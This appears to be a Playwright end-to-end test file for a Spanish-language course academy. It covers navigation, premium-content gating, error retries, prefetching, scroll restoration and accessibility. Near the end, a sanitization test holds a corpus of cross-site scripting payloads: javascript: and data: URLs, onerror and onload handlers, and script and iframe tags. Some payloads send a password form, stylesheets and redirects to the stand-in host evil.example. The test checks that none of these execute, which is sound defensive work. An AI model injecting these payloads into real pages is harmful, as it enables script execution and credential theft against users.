import type { APIRequestContext, Page } from '@playwright/test'
import { lessonsOf } from './academyCatalogue.ts'
import { addPerson, arriveSignedIn, openSession, type Person } from './people.ts'
import { expectAccessible, setTheme, watchForeignRequests } from './publicPages.ts'
import { expect, fillSignIn, test } from './test.ts'

const FIRST = '/academy/devops/aws/fundamentos/que-es-aws'
const PREMIUM = '/academy/devops/aws/fundamentos/cuentas-e-iam'
const ONLY_FOR_MEMBERS =
  'Este contenido es exclusivo para usuarios registrados. Inicia sesión para acceder al material premium.'

const outlineOf = (page: Page) => page.getByRole('navigation', { name: /^Contenido de / })
const textOf = (page: Page) =>
  page
    .getByRole('main')
    .locator('section')
    .filter({ has: page.locator('h2, h3') })

test.beforeEach(async ({ context }) => {
  // The video's host is no part of the product.
  await context.route(/ytimg\.com|youtube-nocookie\.com/, (route) =>
    route.request().resourceType() === 'image'
      ? route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' })
      : route.fulfill({ contentType: 'text/html', body: '<title>Video</title>' }),
  )
})

test.describe('the academy to a visitor', () => {
  test('leads from the index to a lesson and on to the next one', async ({ page }) => {
    await page.goto('/academy')
    const main = page.getByRole('main')
    await expect(main.getByRole('article')).toHaveCount(3)
    await main.getByRole('heading', { level: 2 }).getByRole('link', { name: 'DevOps' }).click()

    await expect(page).toHaveURL('/academy/devops')
    await expect(page.getByRole('heading', { level: 1, name: 'DevOps' })).toBeVisible()
    await main.getByRole('link', { name: 'AWS desde cero para equipos pequeños' }).first().click()

    await expect(page).toHaveURL('/academy/devops/aws')
    await expect(outlineOf(page).getByRole('link', { name: 'Qué es AWS y qué no es' })).toBeVisible()
    await main.getByRole('link', { name: 'Empezar el curso' }).click()

    await expect(page).toHaveURL(FIRST)
    await expect(page.getByRole('heading', { level: 1, name: 'Qué es AWS y qué no es' })).toBeVisible()
    await expect(textOf(page).first()).toBeVisible()
    await expect(outlineOf(page).locator('[aria-current=page]')).toHaveText(/Qué es AWS/)
    await expect(page).toHaveTitle(/Qué es AWS y qué no es/)
    const neighbours = page.getByRole('navigation', { name: 'Lección anterior y siguiente' })
    await expect(neighbours.getByRole('link')).toHaveText([
      /Siguiente.*Cuentas, usuarios y permisos con IAM/s,
    ])
    await neighbours.getByRole('link').click()
    await expect(page).toHaveURL(PREMIUM)
    await expect(neighbours.getByRole('link').first()).toHaveText(/Anterior.*Qué es AWS y qué no es/s)
  })

  test('loads the player, without cookies, only when the video is wanted', async ({ page, baseURL }) => {
    await page.goto(FIRST)
    const player = page.getByTitle('Video: Qué es AWS y qué no es')
    const foreign = watchForeignRequests(page, baseURL)
    const start = page.getByRole('button', { name: 'Reproducir el video: Qué es AWS y qué no es' })
    const { width = 0, height = 1 } = (await start.boundingBox()) ?? {}
    expect(width / height).toBeCloseTo(16 / 9, 1)
    await expect(player).toHaveCount(0)
    await start.press('Enter')
    await expect(player).toBeFocused()
    await expect(page.getByText('Cargando video...')).toBeHidden()
    const embedded = foreign.filter((url) => !url.includes('ytimg.com'))
    expect(embedded).toEqual(['https://www.youtube-nocookie.com/embed/a9__D53WsUs?autoplay=1&rel=0'])
  })

  test('keeps what one has completed in this browser', async ({ page }) => {
    await page.goto(FIRST)
    await page.getByRole('button', { name: 'Marcar como completada' }).click()
    await expect(outlineOf(page).getByRole('link', { name: /Qué es AWS.*\(completada\)/ })).toBeVisible()
    const progress = outlineOf(page).getByRole('progressbar', { name: 'Progreso del curso' })
    expect(Number(await progress.getAttribute('aria-valuenow'))).toBeGreaterThan(0)
    await page.goto('/academy/devops/aws')
    await expect(page.getByRole('link', { name: 'Continuar el curso' })).toHaveAttribute('href', PREMIUM)
  })

  test('says what is for members, and leads to the sign-in', async ({ page }) => {
    await page.goto(PREMIUM)
    await expect(page.getByText(ONLY_FOR_MEMBERS)).toBeVisible()
    await expect(page.getByRole('heading', { name: 'Enlaces premium' })).toHaveCount(0)
    await page.getByRole('note').getByRole('link', { name: 'Iniciar sesión' }).click()
    await expect(page).toHaveURL(`/auth/login?redirectURL=${encodeURIComponent(PREMIUM)}`)
  })

  test('marks what is Hot and what is New', async ({ page }) => {
    await page.goto('/academy/devops/github-actions')
    const lessons = page
      .getByRole('main')
      .getByRole('listitem')
      .filter({ has: page.getByText(/^Lección/) })
    await expect(lessons.filter({ hasText: 'New' }).first()).toBeVisible()
    await expect(lessons.filter({ hasText: 'Hot' }).last()).toBeVisible()
    await page.goto(FIRST)
    await expect(page.getByRole('article').getByText(/^(Hot|New)$/)).toHaveCount(0)
  })

  for (const [path, text] of [
    ['/academy/no-existe', 'No se encontró la categoría.'],
    ['/academy/devops/no-existe', 'Curso no encontrado.'],
    ['/academy/api/aws', 'Curso no encontrado.'],
    ['/academy/devops/aws/fundamentos/no-existe', 'No se encontró la lección.'],
    ['/academy/devops/aws/no-existe/que-es-aws', 'No se encontró la lección.'],
    ['/academy/devops/no-existe/fundamentos/que-es-aws', 'No se encontró la lección.'],
    ['/academy/devops/aws/fundamentos', 'Academia'],
    ['/academy/devops/aws/fundamentos/que-es-aws/mas', 'Academia'],
  ] as const) {
    test.describe(() => {
      test.use({ expectedErrors: [/404/] })
      test(`answers ${path} with «${text}»`, async ({ page }) => {
        await page.goto(path)
        await expect(page.getByRole('heading', { level: 1, name: text, exact: true })).toBeVisible()
      })
    })
  }
})

test.describe('a call that fails', () => {
  test.use({ expectedErrors: [/500/] })

  for (const [path, call, text, heading] of [
    [
      '/academy',
      'categories/getAll',
      'Failed to load academy categories. Please try again later.',
      'Academia',
    ],
    [
      '/academy/devops',
      'categories/getBySlug/devops',
      'Failed to load category. It might not exist or there was a network error.',
      'DevOps',
    ],
    [
      '/academy/devops/aws',
      'courses/getBySlug/aws',
      'Failed to load course details. It might not exist or there was a network error.',
      'AWS desde cero para equipos pequeños',
    ],
    [FIRST, 'lessons/getBySlug/que-es-aws', 'Error al cargar la lección', 'Qué es AWS y qué no es'],
  ] as const) {
    test(`at ${path} is told, and tried again on demand`, async ({ page }) => {
      const address = `**/api/academy/${call}`
      await page.route(address, (route) => route.fulfill({ status: 500, json: { code: 'x', message: 'x' } }))
      await page.goto(path)
      const panel = page.getByRole('main').getByRole('alert').filter({ hasText: text })
      await expect(panel).toBeVisible()
      await page.unroute(address)
      await panel.getByRole('button', { name: 'Reintentar' }).click()
      await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible()
      await expect(panel).toHaveCount(0)
    })
  }

  test('for a lesson’s text costs the text alone', async ({ page }) => {
    const address = '**/content/academy/**/*.md'
    await page.route(address, (route) => route.fulfill({ status: 500, body: 'no' }))
    await page.goto(FIRST)
    const notice = page.getByRole('alert').filter({ hasText: 'No pudimos cargar el texto de esta lección.' })
    await expect(notice).toBeVisible()
    await expect(page.getByRole('heading', { level: 1, name: 'Qué es AWS y qué no es' })).toBeVisible()
    await expect(page.getByRole('link', { name: /Infraestructura global de AWS/ })).toBeVisible()
    await expect(page.getByRole('button', { name: /Reproducir el video/ })).toBeVisible()
    await expect(outlineOf(page).getByRole('link').nth(3)).toBeVisible()
    await page.unroute(address)
    await notice.getByRole('button', { name: 'Reintentar' }).click()
    await expect(notice).toHaveCount(0)
    await expect(
      page
        .getByRole('main')
        .getByText(/responsabilidad compartida/)
        .last(),
    ).toBeVisible()
  })
})

test.describe('premium material', () => {
  let member: Person
  test.beforeAll(async () => {
    member = await addPerson(process.env.E2E_URL ?? '', 'user')
  })

  test('of every lesson is in no anonymous answer', async ({ request, baseURL }) => {
    const { accessToken } = await openSession(baseURL ?? '', member)
    const bearer = { authorization: `Bearer ${accessToken}` }
    const lessons = await lessonsOf(request)
    expect(lessons.length).toBeGreaterThan(25)
    let links = 0
    let texts = 0
    for (const { slug, fromCourse } of lessons) {
      const open = await json(request, `/api/academy/lessons/getBySlug/${slug}`)
      const own = await json(request, `/api/academy/lessons/getBySlug/${slug}`, bearer)
      for (const answer of [open, fromCourse]) expect(JSON.stringify(answer), slug).not.toMatch(/premium/i)
      for (const link of own.linksPremium) {
        links += 1
        expect(JSON.stringify(open), slug).not.toContain(link.url)
      }
      const address = `/api/academy/lessons/premium/${slug}`
      expect((await request.get(address)).status(), slug).toBe(401)
      if (!own.markdownUrlPremium) continue
      texts += 1
      const whole = await (await request.get(own.markdownUrlPremium, { headers: bearer })).text()
      const free = await (await request.get(open.markdownUrl)).text()
      const part = whole.slice(free.trimEnd().length).trim()
      expect(whole.startsWith(free.trimEnd()), slug).toBe(true)
      expect(part.length, slug).toBeGreaterThan(200)
      expect(free, slug).not.toContain(part.slice(0, 60))
      // Neither does the text lie where the public one does.
      for (const guess of [open.markdownUrl.replace('.md', '.premium.md'), `${open.markdownUrl}?premium=1`]) {
        const answer = await request.get(guess)
        expect(await answer.text(), guess).not.toContain(part.slice(0, 60))
      }
    }
    expect(links).toBeGreaterThan(5)
    expect(texts).toBeGreaterThan(3)
  })

  test('is there for a member who signs in, and gone with the session', async ({ page }) => {
    await page.goto(PREMIUM)
    await page.getByRole('note').getByRole('link', { name: 'Iniciar sesión' }).click()
    await fillSignIn(page, member.email, member.password)
    // Reading 5: only administrators are sent back to where they were.
    await expect(page).toHaveURL('/dashboard')
    await page.goto(PREMIUM)
    const links = page
      .locator('section')
      .filter({ has: page.getByRole('heading', { name: 'Enlaces premium' }) })
    await expect(links.getByRole('link', { name: /Plantilla de políticas/ })).toBeVisible()
    await expect(page.getByText(ONLY_FOR_MEMBERS)).toHaveCount(0)
    const headings = page.getByRole('main').locator('h2, h3')
    await expect(page.getByRole('group', { name: /^Código/ }).first()).toBeVisible()
    const count = await headings.count()

    await page.getByRole('button', { name: 'Logout' }).click()
    await expect(page.getByRole('link', { name: 'Login', exact: true })).toBeVisible()
    await page.goto(PREMIUM)
    await expect(page.getByText(ONLY_FOR_MEMBERS)).toBeVisible()
    await expect(page.getByRole('group', { name: /^Código/ }).first()).toBeVisible()
    expect(await headings.count()).toBeLessThan(count)
  })

  test('vanishes from the open page with the session', async ({ context, page, baseURL }) => {
    await arriveSignedIn(context, baseURL ?? '', member)
    await page.goto(PREMIUM)
    await expect(page.getByRole('heading', { name: 'Enlaces premium' })).toBeVisible()
    await page.getByRole('button', { name: 'Logout' }).click()
    await expect(page.getByText(ONLY_FOR_MEMBERS)).toBeVisible()
    await expect(page.getByRole('heading', { name: 'Enlaces premium' })).toHaveCount(0)
  })
})

test('titles, links and texts of an attacker execute nothing', async ({ page, baseURL }) => {
  await page.addInitScript(() => {
    Object.assign(window, { executed: [] as string[] })
    for (const name of ['alert', 'confirm', 'prompt'])
      Object.assign(window, { [name]: (text: string) => Reflect.get(window, 'executed').push(text) })
  })
  const text = '<img src=x onerror=alert(1)><svg onload=alert(2)>"\'`{{alert(3)}}'
  const link = (url: string, index: number) => ({ id: String(index), name: `${text} ${index}`, url })
  await page.route('**/api/academy/lessons/getBySlug/que-es-aws', async (route) => {
    const lesson = await (await route.fetch()).json()
    const changes = {
      titleLesson: text,
      descriptionLesson: text,
      labelLesson: text,
      links: hostile.map(link),
    }
    await route.fulfill({
      json: { ...lesson, ...changes, youtubeUrl: 'javascript:alert(4)//youtube.com/watch?v=a9__D53WsUs' },
    })
  })
  await page.route('**/api/academy/courses/getBySlug/aws', async (route) => {
    const course = JSON.stringify(await (await route.fetch()).json())
    const parsed = JSON.parse(course.replaceAll('Fundamentos de la nube', 'F'))
    for (const section of parsed.sections) {
      section.titleSection = text
      for (const lesson of section.lessons) lesson.titleLesson = text
    }
    await route.fulfill({ json: { ...parsed, title: text, thumbnail: 'javascript:alert(5)' } })
  })
  await page.route('**/content/academy/devops/aws/que-es-aws.md', (route) =>
    route.fulfill({ contentType: 'text/markdown', body: corpus }),
  )
  const foreign = watchForeignRequests(page, baseURL)
  await page.goto(FIRST)
  await expect(page.getByRole('heading', { level: 1, name: text })).toBeVisible()
  await expect(page.getByRole('main').getByText('Final del corpus')).toBeVisible()
  await expect(page.getByText('URL de YouTube inválida.')).toBeVisible()

  const found = await page.evaluate(() => {
    const main = document.querySelector('main') ?? document.body
    const attributes = [...main.querySelectorAll('*')].flatMap((element) => [...element.attributes])
    return {
      executed: Reflect.get(window, 'executed'),
      elements: main.querySelectorAll('script, iframe, object, embed, form, style, base, meta, [srcdoc]')
        .length,
      handlers: attributes.filter(({ name }) => name.startsWith('on')).map(({ name }) => name),
      schemes: [...main.querySelectorAll<HTMLAnchorElement>('a[href]')].map(({ protocol }) => protocol),
    }
  })
  expect(found).toMatchObject({ executed: [], elements: 0, handlers: [] })
  const allowed = ['http:', 'https:', 'irc:', 'ircs:', 'mailto:', 'xmpp:']
  expect([...new Set(found.schemes)].filter((scheme) => !allowed.includes(scheme))).toEqual([])
  // What is left of a link is pressed as well.
  for (const place of await page.getByRole('main').getByText('pulsa').all())
    await place.click({ noWaitAfter: true, timeout: 2_000 })
  await expect(page).toHaveURL(FIRST)
  expect(await page.evaluate(() => Reflect.get(window, 'executed'))).toEqual([])
  expect(foreign.filter((url) => !url.includes('ytimg.com'))).toEqual([])
})

test('going from lesson to lesson loads nothing twice, and the next one ahead', async ({ page }) => {
  const asked: string[] = []
  page.on('request', (request) => {
    const { pathname } = new URL(request.url())
    if (request.resourceType() === 'script' || /^\/(api\/academy|content\/.*\.md$)/.test(pathname))
      asked.push(pathname)
  })
  const next = page.getByRole('navigation', { name: 'Lección anterior y siguiente' }).getByRole('link').last()
  const since = (mark: number) => asked.slice(mark).filter((path) => !path.endsWith('.js'))

  await page.goto(FIRST)
  await expect(textOf(page).first()).toBeVisible()
  let mark = asked.length
  await next.hover()
  const ahead = [
    '/api/academy/lessons/getBySlug/cuentas-e-iam',
    '/content/academy/devops/aws/cuentas-e-iam.md',
  ]
  await expect.poll(() => since(mark)).toEqual(ahead)

  mark = asked.length
  await next.click()
  await expect(page.getByRole('heading', { level: 1, name: /IAM/ })).toBeVisible()
  await expect(page.getByRole('group', { name: /^Código/ }).first()).toBeVisible()
  await outlineOf(page).getByRole('link', { name: 'Qué es AWS y qué no es' }).click()
  await expect(page).toHaveURL(FIRST)
  await expect(textOf(page).first()).toBeVisible()
  await page.goBack()
  await expect(page).toHaveURL(PREMIUM)
  // Resting on a link under the pointer fetches that one ahead, and no more.
  expect(since(mark).filter((path) => ahead.includes(path) || path.includes('que-es-aws'))).toEqual([])
  expect(since(mark).filter((path) => /courses|categories/.test(path))).toEqual([])
  expect(new Set(asked).size).toBe(asked.length)
})

test.describe('the reader’s place', () => {
  const depth = (page: Page) => page.evaluate(() => Math.round(scrollY))

  test('is kept on the way back, and a new lesson starts at the top', async ({ page }) => {
    await page.setViewportSize({ width: 1280, height: 500 })
    await page.goto(FIRST)
    await expect(textOf(page).first()).toBeVisible()
    const next = page
      .getByRole('navigation', { name: 'Lección anterior y siguiente' })
      .getByRole('link')
      .last()
    await next.scrollIntoViewIfNeeded()
    const place = await depth(page)
    expect(place).toBeGreaterThan(600)
    const column = () => outlineOf(page).evaluate(({ parentElement }) => parentElement?.scrollTop)
    await outlineOf(page).evaluate(({ parentElement }) => parentElement?.scrollTo(0, 60))
    await next.click()
    await expect(page).toHaveURL(PREMIUM)
    await expect.poll(() => depth(page)).toBe(0)
    expect(await column()).toBe(60)
    await page.goBack()
    await expect(page).toHaveURL(FIRST)
    await expect.poll(() => depth(page)).toBe(place)
    await page.goForward()
    await expect.poll(() => depth(page)).toBe(0)
  })

  test('outlives a reload', async ({ page }) => {
    await page.goto(FIRST)
    await expect(textOf(page).first()).toBeVisible()
    await page.evaluate(() => scrollTo(0, 900))
    await expect.poll(() => depth(page)).toBe(900)
    await page.reload()
    await expect.poll(() => depth(page)).toBe(900)
  })
})

test.describe('the keyboard', () => {
  test('walks the outline and opens a lesson', async ({ page }) => {
    await page.goto('/academy/devops/aws')
    const [first, second] = [/Qué es AWS/, /Cuentas, usuarios y permisos/].map((name) =>
      outlineOf(page).getByRole('link', { name }),
    )
    await first?.focus()
    await page.keyboard.press('Tab')
    await expect(second ?? page.locator('none')).toBeFocused()
    await page.keyboard.press('Enter')
    await expect(page).toHaveURL(PREMIUM)
    await expect(page.locator('main')).toBeFocused()
  })

  test('opens a drawer, stays in it and gives the focus back', async ({ page }) => {
    await page.setViewportSize({ width: 390, height: 844 })
    await page.goto(FIRST)
    const opener = page.getByRole('button', { name: 'Contenido', exact: true })
    await opener.press('Enter')
    const drawer = page.getByRole('dialog', { name: 'Contenido del curso' })
    await expect(drawer.getByRole('link', { name: /Qué es AWS/ })).toBeVisible()
    for (let presses = 0; presses < 4; presses += 1) {
      await page.keyboard.press('Tab')
      expect(await drawer.evaluate((dialog) => dialog.contains(document.activeElement))).toBe(true)
    }
    await page.keyboard.press('Escape')
    await expect(drawer).toHaveCount(0)
    await expect(opener).toBeFocused()

    await page.getByRole('button', { name: 'Categorías', exact: true }).press('Enter')
    const catalogue = page.getByRole('dialog', { name: 'Categorías y cursos' })
    await catalogue.getByRole('link', { name: 'DevOps' }).press('Enter')
    await expect(page).toHaveURL('/academy/devops')
    await expect(catalogue).toHaveCount(0)
  })
})

test.describe('every page', () => {
  for (const [path, heading] of [
    ['/academy', 'Academia'],
    ['/academy/devops', 'DevOps'],
    ['/academy/devops/aws', 'AWS desde cero para equipos pequeños'],
    [PREMIUM, 'Cuentas, usuarios y permisos con IAM'],
    ['/academy/mobile/flutter/primeros-pasos/dart-en-una-tarde', 'Dart en una tarde'],
  ] as const) {
    test(`is accessible in both themes at both widths: ${path}`, async ({ page }) => {
      await page.goto(path)
      await expect(page.getByRole('heading', { level: 1, name: heading })).toBeVisible()
      if (path.split('/').length > 5)
        await expect(page.getByRole('group', { name: /^Código/ }).first()).toBeVisible()
      for (const width of [1280, 390]) {
        await page.setViewportSize({ width, height: 844 })
        for (const theme of ['dark-mode', 'light'] as const) {
          await setTheme(page, theme)
          await expectAccessible(page)
        }
        const wider = await page.evaluate(() => document.documentElement.scrollWidth - innerWidth)
        expect(wider, `at ${width} px`).toBeLessThanOrEqual(0)
      }
      if (path === PREMIUM) {
        await page.getByRole('button', { name: 'Contenido', exact: true }).click()
        await expect(page.getByRole('dialog')).toBeVisible()
        await expectAccessible(page)
      }
    })
  }
})

const hostile = [
  'javascript:alert(10)',
  'JaVaScRiPt:alert(11)',
  'java\nscript:alert(12)',
  ' javascript:alert(13)',
  'data:text/html,<script>alert(14)</script>',
  'vbscript:msgbox(15)',
  'file:///etc/passwd',
  '\u0001javascript:alert(16)',
]

const corpus = [
  ...hostile.slice(0, 2).map((url) => `[pulsa](${url})`),
  '[pulsa](java&#x0A;script:alert(20))',
  '[pulsa](&#106;avascript:alert(21))',
  '[pulsa](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[pulsa][ref]\n\n[ref]: javascript:alert(22)',
  '<javascript:alert(23)>',
  '![x](javascript:alert(24))',
  '![x](data:image/svg+xml,<svg/onload=alert(25)>)',
  '![x" onerror="alert(26)](/content/academy/devops.svg)',
  '<script>alert(27)</script>',
  '<img src=x onerror=alert(28)>',
  '<svg><script>alert(29)</script></svg>',
  '<svg><animate onbegin=alert(30) attributeName=x></svg>',
  '<math><a xlink:href="javascript:alert(31)">pulsa</a></math>',
  '<iframe src="javascript:alert(32)"></iframe>',
  '<iframe srcdoc="<script>parent.alert(33)</script>"></iframe>',
  '<object data="javascript:alert(34)"></object>',
  '<a href="javascript:alert(35)">pulsa</a>',
  '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  '<form action="https://evil.example"><input name="password"><button>pulsa</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<details open ontoggle=alert(36)><summary>x</summary></details>',
  '<p style="background:url(https://evil.example/x.png)">x</p>',
  '```"><img src=x onerror=alert(37)>\ncode\n```',
  '`<img src=x onerror=alert(38)>`',
  '| a |\n| - |\n| <img src=x onerror=alert(39)> |',
  '## <img src=x onerror=alert(40)>',
  '[^n]\n\n[^n]: <img src=x onerror=alert(41)> [pulsa](javascript:alert(42))',
  '## Final del corpus',
].join('\n\n')

async function json(request: APIRequestContext, path: string, headers: Record<string, string> = {}) {
  const answer = await request.get(path, { headers })
  expect(answer.status(), path).toBe(200)
  return answer.json()
}
